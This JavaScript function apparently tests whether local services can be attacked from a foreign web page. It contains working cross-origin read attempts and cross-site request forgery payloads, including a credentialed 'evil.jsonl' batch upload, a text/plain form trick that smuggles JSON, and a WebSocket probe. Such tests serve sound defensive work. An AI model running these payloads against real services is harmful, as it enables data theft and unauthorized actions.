// What a foreign page tries against services. Returns what it could read, one line for each way.
async (targets) => {
  const leaks = [];
  const jobs = [];
  const note = (way, what) => leaks.push(`${way}: ${String(what).slice(0, 120)}`);
  const within = (promise) =>
    Promise.race([promise.catch(() => undefined), new Promise((done) => setTimeout(done, 4000))]);
  const read = async (way, url, options) => {
    const answer = await fetch(url, options);
    const text = await answer.text();
    if (answer.ok && answer.type !== "opaque") note(way, `${url} ${text}`);
  };
  const element = (name, attribute, url, way) =>
    new Promise((done) => {
      const one = document.createElement(name);
      one.onload = () => (note(way, url), done());
      one.onerror = done;
      one[attribute] = url;
      if (name === "link") one.rel = "stylesheet";
      document.body.append(one);
    });
  const attack = ({ base, reads, writes, socket }) => {
    for (const path of reads) {
      const url = base + path;
      jobs.push(read("fetch", url));
      jobs.push(read("fetch with credentials", url, { credentials: "include" }));
      jobs.push(read("fetch without cors", url, { mode: "no-cors" }));
      jobs.push(read("fetch with a header", url, { headers: { "x-requested-with": "page" } }));
      jobs.push(element("script", "src", url, "script"));
      jobs.push(element("img", "src", url, "img"));
      jobs.push(element("link", "href", url, "stylesheet"));
      jobs.push(
        new Promise((done) => {
          const events = new EventSource(url);
          events.onopen = () => (note("EventSource", url), events.close(), done());
          events.onerror = () => (events.close(), done());
        }),
      );
      const frame = document.createElement("iframe");
      frame.src = url;
      document.body.append(frame);
    }
    for (const { method, path, type, body } of writes) {
      const url = base + path;
      const simple = ["text/plain", "application/x-www-form-urlencoded"];
      if (method === "POST") {
        for (const kind of simple)
          jobs.push(read("simple POST", url, { method, mode: "no-cors", headers: { "content-type": kind }, body }));
        jobs.push(read("POST of bytes", url, { method, mode: "no-cors", body: new TextEncoder().encode(body) }));
        const parts = new FormData();
        parts.set("purpose", "batch");
        parts.set("file", new Blob([body]), "evil.jsonl");
        jobs.push(read("POST of a form", url, { method, mode: "no-cors", credentials: "include", body: parts }));
        navigator.sendBeacon(url, body);
        const target = document.createElement("iframe");
        target.name = `target-${Math.random()}`;
        const form = document.createElement("form");
        Object.assign(form, { method: "post", action: url, enctype: "text/plain", target: target.name });
        const field = document.createElement("textarea");
        // A form of text/plain sends name=value: with the = inside of a string it is JSON.
        const at = body.lastIndexOf('"');
        field.name = body.slice(0, at);
        field.value = body.slice(at);
        form.append(field);
        document.body.append(target, form);
        form.submit();
      }
      jobs.push(read("preflighted", url, { method, headers: { "content-type": type }, body }));
      jobs.push(
        read("with a key", url, { method, headers: { "content-type": type, authorization: "Bearer x" }, body }),
      );
    }
    if (socket)
      jobs.push(
        new Promise((done) => {
          const one = new WebSocket(base.replace("http", "ws") + socket, ["streamlit"]);
          one.onopen = () => (note("WebSocket", socket), one.close(), done());
          one.onerror = one.onclose = done;
        }),
      );
  };
  targets.forEach(attack);
  await Promise.all(jobs.map(within));
  await new Promise((done) => setTimeout(done, 300)); // for forms and beacons
  return leaks;
}
